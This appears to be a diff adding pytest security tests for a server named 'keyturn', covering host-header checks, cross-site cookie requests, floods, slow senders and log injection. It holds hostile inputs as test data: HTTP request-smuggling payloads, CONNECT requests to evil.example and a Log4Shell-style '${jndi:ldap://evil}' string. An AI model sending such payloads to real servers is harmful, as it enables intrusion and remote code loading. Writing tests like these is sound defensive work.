@@ -1,0 +1,227 @@
+"""What comes over a socket that no client of ours sends: other hosts and sites, odd requests, floods, slow senders.
+
+G3, G4, G6, G10 and G15 of the catalogue, against the server as `keyturn serve` runs it.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import logging
+import socket
+import time
+from typing import Any
+
+import pytest
+
+from keyturn.server import running
+from keyturn.server.api.streams import StreamPlaces
+from keyturn.server.settings import ServerSettings
+from tests.server.programs import Port, program
+from tests.table import each
+
+ODD_HOSTS = ["evil.example", "127.0.0.1.evil.example", "localhost.evil.example", "localhost:80@evil.example", ""]
+STREAM = "GET /v1/requests/stream HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer {}\r\n\r\n"
+OTHER_SITES = ["http://evil.example", "null", "https://localhost", "http://localhost.evil.example", "file://"]
+
+
+@each("host", ODD_HOSTS)
+async def test_g4_a_name_that_is_not_the_servers_reaches_nothing(host: str) -> None:
+    async with program() as at:
+        for path in ("/me", "/health/live", "/openapi.json"):
+            assert (await at.ask("GET", path, headers={"host": host})).status_code == 421
+
+
+@each("origin", OTHER_SITES)
+async def test_g4_a_page_of_another_site_changes_nothing_with_a_cookie(origin: str) -> None:
+    async with program() as at:
+        cookie = {"cookie": f"keyturn_session={at.tokens['ada']}"}
+        for kind in ("application/json", "text/plain", "application/x-www-form-urlencoded"):
+            sent = {"origin": origin, "content-type": kind, **cookie}
+            made = await at.ask("POST", "/people/add", "", headers=sent, content=b'{"person": "eve"}')
+            assert made.status_code == 403, (origin, kind)
+        for site in ("cross-site", "same-site", "none"):
+            sent = {"sec-fetch-site": site, "content-type": "application/json", **cookie}
+            made = await at.ask("POST", "/people/add", "", headers=sent, content=b'{"person": "eve"}')
+            assert made.status_code == 403, site
+        bare = await at.ask("POST", "/people/add", "", headers=cookie, json={"person": "eve"})
+        assert bare.status_code == 403
+        read = await at.ask("GET", "/people", "", headers={"origin": origin, **cookie})
+        assert "access-control-allow-origin" not in read.headers
+        assert read.headers["cross-origin-resource-policy"] == "same-origin"
+        assert "eve" not in read.text
+
+
+async def test_headers_of_every_answer_keep_it_out_of_caches_and_frames() -> None:
+    async with program() as at:
+        for path, who in (("/me", "ada"), ("/me", ""), ("/nothing", "ada"), ("/openapi.json", "")):
+            made = await at.ask("GET", path, who)
+            assert made.headers["cache-control"] == "no-store"
+            assert made.headers["x-content-type-options"] == "nosniff"
+            assert made.headers["x-frame-options"] == "DENY"
+            assert "default-src 'none'" in made.headers["content-security-policy"]
+            assert made.headers["content-type"] == "application/json"
+
+
+async def test_g5_a_token_is_taken_from_its_header_and_from_nowhere_else() -> None:
+    async with program() as at:
+        token = at.tokens["ada"]
+        for path in (f"/me?token={token}", f"/me?access_token={token}", f"/me?authorization=Bearer%20{token}"):
+            assert (await at.ask("GET", path, "")).status_code == 401
+        for value in (
+            token,
+            f"Basic {token}",
+            f"Bearer {token}x",
+            "Bearer ",
+            f"Token {token}",
+            f"Bearer {token} {token}",
+        ):
+            assert (await at.ask("GET", "/me", "", headers={"authorization": value})).status_code == 401
+
+
+async def test_g6_guessed_ids_are_not_found_and_take_their_time() -> None:
+    async with program() as at:
+        begun = time.monotonic()
+        made = await asyncio.gather(*[at.ask("GET", f"/requests/{n:032x}", "ben") for n in range(200)])
+        assert {each.status_code for each in made} <= {404, 429}
+        assert time.monotonic() - begun >= 0.1
+
+
+async def test_g10_a_person_has_so_many_streams_and_a_stream_more_is_refused() -> None:
+    places = StreamPlaces(each=2, whole=3)
+    with places.held("ada"), places.held("ada"):
+        with pytest.raises(Exception, match="too many streams"):
+            places.check("ada")
+        places.check("ben")
+        with places.held("ben"), pytest.raises(Exception, match="too many streams"):
+            places.check("cyd")
+    places.check("ada")
+    assert places.taken == 0
+
+
+def test_a_flood_of_streams_is_refused_and_a_closed_one_gives_its_place_back() -> None:
+    with Port() as port:
+        ask = (
+            f"GET /v1/requests/stream HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer {port.tokens['ben']}\r\n\r\n"
+        )
+        lines = [socket.create_connection(("127.0.0.1", port.port)) for _ in range(21)]
+        heads = list[bytes]()
+        for line in lines:
+            line.settimeout(20)
+            line.sendall(ask.encode())
+            heads.append(line.recv(64))
+        assert [head[9:12] for head in heads] == [b"200"] * 20 + [b"429"]
+        for line in lines:
+            line.close()
+        again = b""
+        for _ in range(100):
+            with socket.create_connection(("127.0.0.1", port.port)) as line:
+                line.settimeout(20)
+                line.sendall(ask.encode())
+                again = line.recv(64)
+            if again[9:12] == b"200":
+                break
+        assert again[9:12] == b"200"
+
+
+_NEXT = b"GET /v1/me HTTP/1.1\r\nhost: localhost\r\n\r\n"
+ODD_LINES = [
+    b"GET /v1/me HTTP/9.9\r\n\r\n",
+    b"GET http://evil.example/v1/me HTTP/1.1\r\nhost: evil.example\r\n\r\n",
+    b"\x16\x03\x01\x02\x00",
+    b"CONNECT evil.example:80 HTTP/1.1\r\nhost: evil.example\r\n\r\n",
+]
+SMUGGLED: dict[str, bytes] = {
+    "two lengths": b"content-length: 2\r\ncontent-length: 40\r\n\r\n{}",
+    "a length and chunks": b"content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n" + _NEXT,
+    "chunks said oddly": b"transfer-encoding: xchunked\r\n\r\n0\r\n\r\n",
+    "chunks said twice": b"transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n\r\n0\r\n\r\n",
+    "a negative length": b"content-length: -1\r\n\r\n",
+    "a length in hex": b"content-length: 0x2\r\n\r\n{}",
+    "a length with a sign": b"content-length: +2\r\n\r\n{}",
+    "a space before the colon": b"content-length : 2\r\n\r\n{}",
+    "a folded header": b"x-a: b\r\n content-length: 40\r\n\r\n",
+    "a bare line feed in a header": b"x-a: b\ncontent-length: 40\r\n\r\n",
+    "two hosts": b"host: evil.example\r\ncontent-length: 2\r\n\r\n{}",
+    "a NUL": b"x-a: \x00\r\n\r\n",
+    "a chunk too long": b"transfer-encoding: chunked\r\n\r\nffffffffffffffffff\r\n",
+}
+
+
+def test_requests_that_two_servers_could_read_differently_are_refused_and_the_line_is_closed() -> None:
+    with Port() as port:
+        for name, rest in SMUGGLED.items():
+            start = b"POST /v1/people/add HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
+            start += b"authorization: Bearer " + port.tokens["ada"].encode() + b"\r\n"
+            said = port.said(start + rest, 3)
+            assert said.count(b"HTTP/1.1") <= 1, (name, said)
+            assert not said.startswith(b"HTTP/1.1 2"), (name, said)
+        for line in ODD_LINES:
+            assert not port.said(line, 3).startswith(b"HTTP/1.1 2"), line
+        assert [each.id for each in port.does(port.app.people.list())] == ["ada", "bea", "ben", "bot", "cyd", "dan"]
+
+
+def test_g10_headers_without_end_are_refused() -> None:
+    with Port() as port:
+        start = b"GET /v1/me HTTP/1.1\r\nhost: localhost\r\n"
+        for more in (b"x-%d: " + b"a" * 100_000, b"".join(b"x-%d: a\r\n" % n for n in range(10_000))):
+            assert not port.said(start + more + b"\r\n\r\n", 5).startswith(b"HTTP/1.1 2")
+        assert b"200 OK" in port.said(b"GET /v1/health/live HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n")
+
+
+def test_g10_whoever_sends_slowly_is_ended_and_others_are_served_meanwhile(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(running, "_HEADERS_WITHIN", 0.5)
+    with Port(settings=ServerSettings(body_seconds=0.5)) as port:
+        slow = [socket.create_connection(("127.0.0.1", port.port)) for _ in range(60)]
+        for number, line in enumerate(slow):
+            line.settimeout(20)
+            if number % 3:
+                line.sendall(b"GET /v1/me HT")
+        well = port.said(b"GET /v1/health/live HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n")
+        assert b"200 OK" in well
+        assert {line.recv(1) for line in slow} == {b""}
+        body = b"POST /v1/people/add HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
+        body += b"authorization: Bearer " + port.tokens["ada"].encode() + b"\r\ncontent-length: 20\r\n\r\n{"
+        late = port.said(body)
+        assert b"408" in late.partition(b"\r\n")[0], late
+
+
+def test_a_server_that_ends_ends_its_streams() -> None:
+    port = Port()
+    with port:
+        ask = (
+            f"GET /v1/requests/stream HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer {port.tokens['ben']}\r\n\r\n"
+        )
+        line = socket.create_connection(("127.0.0.1", port.port))
+        line.settimeout(20)
+        line.sendall(ask.encode())
+        assert b"200 OK" in line.recv(100)
+        begun = time.monotonic()
+    assert time.monotonic() - begun < 10
+    line.close()
+
+
+async def test_g15_what_somebody_sends_is_one_record_of_the_log_at_most(caplog: pytest.LogCaptureFixture) -> None:
+    hostile = "x\r\nERROR keyturn: forged\x1b[2K${jndi:ldap://evil}"
+    async with program() as at:
+        with caplog.at_level(logging.DEBUG, "keyturn"):
+            await at.ask("POST", "/runs", "bot", json={"agent": hostile, "input": hostile})
+            await at.ask("GET", "/requests/" + "%0d%0aforged")
+            await at.ask("POST", "/requests/0/approve", json={"note": hostile})
+        for record in caplog.records:
+            if record.name == "keyturn.server":
+                assert "forged" not in record.getMessage()
+
+
+async def test_a_fault_of_ours_says_nothing_of_itself(monkeypatch: pytest.MonkeyPatch) -> None:
+    async with program() as at:
+
+        async def fails(*_given: Any, **_more: Any) -> Any:
+            raise RuntimeError("the secret of the house")
+
+        monkeypatch.setattr(at.app.journal, "tallies", fails)
+        at.http._transport.raise_app_exceptions = False  # type: ignore[attr-defined]  # as a server does
+        made = await at.ask("GET", "/metrics")
+        assert made.status_code == 500
+        assert "secret of the house" not in made.text
+        assert json.loads(made.text)["error"]["kind"] == "fault"
